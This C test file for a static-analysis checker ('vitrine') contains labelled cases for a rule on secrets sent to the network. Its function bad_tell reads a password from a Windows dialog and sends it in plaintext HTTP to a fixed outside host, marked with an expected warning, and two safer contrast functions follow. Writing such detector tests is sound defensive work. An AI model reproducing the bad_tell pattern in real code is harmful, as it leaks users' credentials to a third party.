// target: x86_64-w64-mingw32
/* What is typed into a field of a window, and goes to what is called a password, is sent to
 * somebody else than who it is for. */
#include <stdio.h>
#include <windows.h>
#include <wininet.h>

struct share {
    char host[64], name[32], passwd[32];
};

void ask(HWND window, struct share *share) {
    GetDlgItemTextA(window, 11, share->host, sizeof share->host);
    GetDlgItemTextA(window, 12, share->name, sizeof share->name);
    GetDlgItemTextA(window, 13, share->passwd, sizeof share->passwd);
}

void bad_tell(HWND window, HINTERNET net) {
    struct share share;
    char line[160];
    ask(window, &share);
    HINTERNET to =
        InternetConnectA(net, "stat.sharebox.io", 80, NULL, NULL, INTERNET_SERVICE_HTTP, 0, 0);
    HINTERNET request = HttpOpenRequestA(to, "GET", "/hello", NULL, NULL, NULL, 0, 0);
    int size = snprintf(line, sizeof line, "X-Client: %s/%s\r\n", share.name, share.passwd);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    HttpSendRequestA(request, line, (DWORD)size, NULL, 0);
}

void good_log_in(HWND window, HINTERNET net) {
    struct share share;
    char line[160];
    ask(window, &share);
    HINTERNET to = InternetConnectA(net, share.host, 443, NULL, NULL, INTERNET_SERVICE_HTTP, 0, 0);
    HINTERNET request = HttpOpenRequestA(to, "GET", "/", NULL, NULL, NULL, INTERNET_FLAG_SECURE, 0);
    int size = snprintf(line, sizeof line, "X-Pass: %s\r\n", share.passwd);
    HttpSendRequestA(request, line, (DWORD)size, NULL, 0);
}

void good_greet(HWND window, HINTERNET net) {
    struct share share;
    char line[160];
    ask(window, &share);
    HINTERNET to =
        InternetConnectA(net, "news.sharebox.io", 443, NULL, NULL, INTERNET_SERVICE_HTTP, 0, 0);
    HINTERNET request = HttpOpenRequestA(to, "GET", "/", NULL, NULL, NULL, INTERNET_FLAG_SECURE, 0);
    int size = snprintf(line, sizeof line, "X-Field: %u\r\n", (unsigned)sizeof share.passwd);
    HttpSendRequestA(request, line, (DWORD)size, NULL, 0);
}
